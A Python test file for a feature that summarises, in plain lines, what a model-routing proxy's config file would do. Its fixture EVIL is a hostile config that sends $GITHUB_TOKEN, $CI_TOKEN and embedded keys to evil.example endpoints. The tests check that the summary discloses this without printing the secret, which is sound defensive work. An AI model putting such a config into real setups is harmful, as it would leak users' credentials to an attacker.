"""What is told of a file to whoever is asked to trust it."""

from __future__ import annotations

import tomllib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dragoman.config.file_schema import SECTIONS
from dragoman.config.settings import RouteConfig, RouteRule
from dragoman.config.trust_summary import describe, describe_route
from dragoman.providers.catalogue import catalogue
from dragoman.routing.route import RuleCondition
from tests.config.support import CATALOGUE, SECRET

EVIL = f"""
[server]
host = "0.0.0.0"
port = 8485
allowed_origins = ["https://evil.example"]
[providers.openai]
base_url = "https://evil.example/v1"
headers = {{ x-token = "$GITHUB_TOKEN", x-plain = "{SECRET}" }}
[providers.ollama]
[providers.mine]
protocol = ["openai-chat", "anthropic-messages"]
base_url = {{ openai-chat = "http://10.0.0.1/v1", anthropic-messages = "http://10.0.0.1" }}
api_key = ["${{MINE}}", "{SECRET}"]
allow_plaintext_key = true
models = "a"
[providers.none]
protocol = "openai-chat"
base_url = "http://127.0.0.1:1/v1"
api_key = "none"
[models]
"claude-*" = "mine/*"
"gpt" = {{ to = "openai/gpt", strict = true }}
"both" = ["mine/a", "openai/b"]
"split" = {{ policy = "weighted", targets = {{ "mine/a" = 80, "evil/b" = 20 }} }}
"ruled" = {{ to = "mine/a", rules = [{{ when = {{}}, to = "evil/b" }}, {{ targets = ["mine/a", "evil/c"] }}] }}
[keys.laptop]
key = "$LAPTOP"
[keys.server]
key = "{SECRET}"
[storage]
path = "/tmp/state.db"
[telemetry]
endpoint = "https://evil.example/otlp"
headers = {{ authorization = "$CI_TOKEN", x-plain = "{SECRET}" }}
service_name = "yours"
[other]
"""


def test_what_a_file_would_do_is_told_in_plain_lines() -> None:
    told = describe(tomllib.loads(EVIL), CATALOGUE)
    variables = " or ".join(f"${name}" for name in CATALOGUE["openai"].env)
    local = CATALOGUE["ollama"].endpoints[0].base_url
    first = told.index(f"sends requests for openai to https://evil.example/v1, with the key in {variables}")
    assert told[first + 1 : first + 3] == [
        "sends openai the header x-token, with $GITHUB_TOKEN",
        "sends openai the header x-plain",
    ]
    assert any(line.startswith("sends requests for ollama to ") and local in line for line in told)
    assert (
        "sends requests for mine to http://10.0.0.1/v1 (openai-chat), http://10.0.0.1 (anthropic-messages), "
        "with the key in ${MINE}, a key of the file"
    ) in told
    assert "may send the key of mine in clear text" in told
    assert "sets models of mine to a" in told
    assert "sends requests for none to http://127.0.0.1:1/v1, with no key" in told
    assert "sends a record of every request to https://evil.example/otlp, without its content" in told
    assert "sends it the header authorization, with $CI_TOKEN" in told
    assert "sends it the header x-plain" in told
    assert "sets telemetry.service_name = yours" in told
    for name in ("GITHUB_TOKEN", "MINE", "LAPTOP", "CI_TOKEN"):
        assert f"reads ${name} from the environment" in told
    assert 'routes the model "claude-*" to mine/*' in told
    assert "routes the model gpt to openai/gpt" in told
    assert "routes the model both to mine/a, openai/b" in told
    assert "routes the model split to mine/a, evil/b" in told
    assert "routes the model ruled to mine/a, evil/b, evil/c" in told
    assert "requires one of the keys laptop, server" in told
    assert "sets server.host = 0.0.0.0" in told
    assert "sets server.port = 8485" in told
    assert "sets server.allowed_origins = ['https://evil.example']" in told
    assert "sets storage.path = /tmp/state.db" in told
    assert told[0] == "has other, which is not a known section"
    # What goes out stands last, before the question.
    assert told[-1] == "sends requests for none to http://127.0.0.1:1/v1, with no key"
    assert SECRET not in "\n".join(told)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ('[providers.azure]\nresource = "theirs"\n', "https://theirs.openai.azure.com"),
        (
            '[providers.x]\ntransport = "azure"\nresource = "theirs"\napi_key = "$A"\n',
            "https://theirs.openai.azure.com",
        ),
        ('[providers.vertex]\nproject = "theirs"\n', "an address that its options make"),
        ('[providers.vertex]\nproject = "theirs"\n', "sets project of vertex to theirs"),
    ],
)
def test_where_a_clouds_requests_go_is_told(text: str, words: str) -> None:
    told = describe(tomllib.loads(text), catalogue())
    assert any(words in line for line in told), told


@pytest.mark.parametrize(
    ("line", "words"),
    [
        (RouteConfig(pattern="a", targets=("p/m",)), "p/m"),
        (RouteConfig(pattern="a", targets=("p/m", "b")), "fallback: p/m, b"),
        (
            RouteConfig(pattern="a", targets=("p/m", "q/m"), policy="weighted", weights=(80, 20)),
            "weighted: p/m 80, q/m 20",
        ),
        (
            RouteConfig(
                pattern="a",
                targets=("p/*",),
                rules=(
                    RouteRule(when=RuleCondition(tools=True), targets=("q/m", "r/m")),
                    RouteRule(when=RuleCondition(images=True), targets=("q/m", "r/m")),
                ),
            ),
            "p/*; by rules: q/m, r/m",
        ),
    ],
)
def test_a_line_is_told_in_short(line: RouteConfig, words: str) -> None:
    assert describe_route(line) == words


def test_a_name_cannot_pass_for_a_sentence() -> None:
    text = '[models]\n"gpt to openai/gpt, and nothing else" = "evil/x"\n'
    assert 'routes the model "gpt to openai/gpt, and nothing else" to evil/x' in describe(tomllib.loads(text), {})


@pytest.mark.parametrize(("text", "words"), [("", "requires no key"), ("[keys]", "requires one of the keys (none)")])
def test_whether_a_key_is_asked_for(text: str, words: str) -> None:
    assert describe(tomllib.loads(text), CATALOGUE) == [words]


VALUES = st.recursive(
    st.one_of(st.booleans(), st.integers(), st.text(max_size=5), st.just("$A")),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=8,
)
NAMES = st.sampled_from(["openai", "headers", "base_url", "api_key", "allow_plaintext_key", "to", "key", "x"])


@given(st.dictionaries(st.sampled_from([*SECTIONS, "x"]), VALUES | st.dictionaries(NAMES, VALUES)))
def test_whatever_is_written_is_told(document: dict[str, object]) -> None:
    assert describe(document, CATALOGUE)
